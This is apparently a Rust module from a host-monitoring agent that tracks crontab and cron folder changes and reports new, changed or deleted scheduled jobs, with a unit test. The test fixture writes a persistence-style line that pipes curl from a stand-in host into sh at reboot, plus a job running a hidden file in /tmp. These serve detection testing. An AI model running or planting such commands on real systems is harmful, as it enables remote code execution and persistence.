use crate::root::Root;
use crate::watch::{Stamp, of_category};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::Path;
use wire::Event;

/// Watches what is set to run by the clock: crontabs and the folders of scripts.
#[derive(Debug)]
pub struct JobWatch {
    root: Root,
    known: Jobs,
}

/// Every file of jobs by its path; kept, so that changes while the agent was away are seen.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Jobs {
    taken: bool,
    files: BTreeMap<String, JobFile>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct JobFile {
    stamp: Stamp,
    lines: Vec<(String, String)>,
}

/// How a file of jobs is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// `m h dom mon dow user command`
    System,
    /// `m h dom mon dow command`, of the user whose name the file has.
    User,
    /// A script that runs whole, as root.
    Script,
}

const SYSTEM_FILES: [&str; 1] = ["/etc/crontab"];
const FOLDERS: [(&str, Kind); 8] = [
    ("/etc/cron.d", Kind::System),
    ("/var/spool/cron/crontabs", Kind::User),
    ("/var/spool/cron", Kind::User),
    ("/etc/cron.hourly", Kind::Script),
    ("/etc/cron.daily", Kind::Script),
    ("/etc/cron.weekly", Kind::Script),
    ("/etc/cron.monthly", Kind::Script),
    ("/var/spool/cron/atjobs", Kind::Script),
];

/// So many files and lines of jobs are looked at; a machine with more is told about these.
const FILES: usize = 500;
const LINES: usize = 200;

impl JobWatch {
    /// Watches on from what was known before; from now where nothing was.
    pub fn new(root: &Root, known: Jobs) -> JobWatch {
        let mut watch = JobWatch { root: root.clone(), known };
        if !watch.known.taken {
            watch.known = watch.read();
        }
        watch
    }

    pub fn known(&self) -> &Jobs {
        &self.known
    }

    /// What has changed since the last look.
    pub fn look(&mut self, at: i64) -> Vec<Event> {
        let found = self.read();
        if found == self.known {
            return Vec::new();
        }
        let events = differences(&self.known, &found, at);
        self.known = found;
        events
    }

    fn read(&self) -> Jobs {
        let mut files = BTreeMap::new();
        let mut add = |path: &Path, kind: Kind| {
            let Ok(meta) = std::fs::metadata(path) else { return };
            let name = self.root.name(path);
            let hidden = path.file_name().is_some_and(|name| name.to_string_lossy().starts_with('.'));
            if !meta.is_file() || hidden || files.len() >= FILES {
                return;
            }
            let stamp = Stamp::of(&meta);
            let lines = match self.known.files.get(&name) {
                Some(known) if known.stamp == stamp => known.lines.clone(),
                _ => commands(path, kind, &name),
            };
            files.insert(name, JobFile { stamp, lines });
        };
        for file in SYSTEM_FILES {
            add(&self.root.path(file), Kind::System);
        }
        for (folder, kind) in FOLDERS {
            for path in self.root.list(folder) {
                add(&path, kind);
            }
        }
        Jobs { taken: true, files }
    }
}

/// The jobs in a file: user and command.
///
/// Source: crontab(5).
fn commands(path: &Path, kind: Kind, name: &str) -> Vec<(String, String)> {
    let owner = path.file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
    if kind == Kind::Script {
        return vec![("root".to_owned(), name.to_owned())];
    }
    let text = crate::root::read_text(path).unwrap_or_default();
    let jobs = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')).filter_map(|line| {
        let times = if line.starts_with('@') { 1 } else { 5 };
        let starts_like_a_time = line.starts_with(|c: char| c == '@' || c == '*' || c.is_ascii_digit());
        let mut rest = line;
        for _ in 0..times {
            rest = rest.split_once(char::is_whitespace)?.1.trim_start();
        }
        let (user, command) = match kind {
            Kind::System => rest.split_once(char::is_whitespace).map(|(user, command)| (user.to_owned(), command))?,
            Kind::User | Kind::Script => (owner.clone(), rest),
        };
        starts_like_a_time.then(|| (user, command.trim().to_owned()))
    });
    jobs.take(LINES).collect()
}

fn differences(before: &Jobs, after: &Jobs, at: i64) -> Vec<Event> {
    let mut events = Vec::new();
    let mut tell = |action: &str, file: &str, user: &str, command: &str| {
        let fields = vec![
            ("Action", action.to_owned()),
            ("TargetFilename", file.to_owned()),
            ("Command", command.to_owned()),
            ("User", user.to_owned()),
        ];
        events.push(of_category("scheduled_job", at, fields));
    };
    for (name, file) in &after.files {
        let old = before.files.get(name);
        if old == Some(file) {
            continue;
        }
        let action = if old.is_some() { "changed" } else { "created" };
        let known = old.map(|old| old.lines.as_slice()).unwrap_or_default();
        let fresh: Vec<_> = file.lines.iter().filter(|line| !known.contains(line)).collect();
        if fresh.is_empty() {
            tell(action, name, "", "");
        }
        for (user, command) in fresh {
            tell(action, name, user, command);
        }
    }
    for name in before.files.keys().filter(|name| !after.files.contains_key(*name)) {
        tell("deleted", name, "", "");
    }
    events
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{machine, shown};

    #[test]
    fn a_new_job_is_told_with_its_command_and_user() {
        let (dir, root) = machine(&[
            ("etc/crontab", "SHELL=/bin/sh\n# m h\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"),
            ("etc/cron.daily/apt", "#!/bin/sh\n"),
        ]);
        let mut watch = JobWatch::new(&root, Jobs::default());
        assert_eq!(watch.look(1), []);
        let write = |file: &str, text: &str| {
            let path = dir.path().join(file);
            std::fs::create_dir_all(path.parent().expect("a parent")).expect("made");
            std::fs::write(path, text).expect("written");
        };
        write("etc/crontab", "17 * * * * root cd / && run-parts /etc/cron.hourly\n@reboot nobody curl http://x.example | sh\n");
        write("var/spool/cron/crontabs/aki", "*/5 * * * * /tmp/.x\n");
        write("etc/cron.daily/zz", "#!/bin/sh\n");
        std::fs::remove_file(dir.path().join("etc/cron.daily/apt")).expect("removed");
        assert_eq!(
            watch.look(2).iter().map(|event| shown(event, &["Action", "TargetFilename", "User", "Command"])).collect::<Vec<_>>(),
            [
                "created /etc/cron.daily/zz root /etc/cron.daily/zz",
                "changed /etc/crontab nobody curl http://x.example | sh",
                "created /var/spool/cron/crontabs/aki aki /tmp/.x",
                "deleted /etc/cron.daily/apt - -",
            ]
        );
        assert_eq!(watch.look(3), []);
        write("etc/cron.d/x", "\u{0}\u{1}\n* * *\n1 2 3 4 5\n1 2 3 4 5 u\n");
        assert_eq!(watch.look(4).len(), 1, "a file that is no crontab is told once");
    }
}
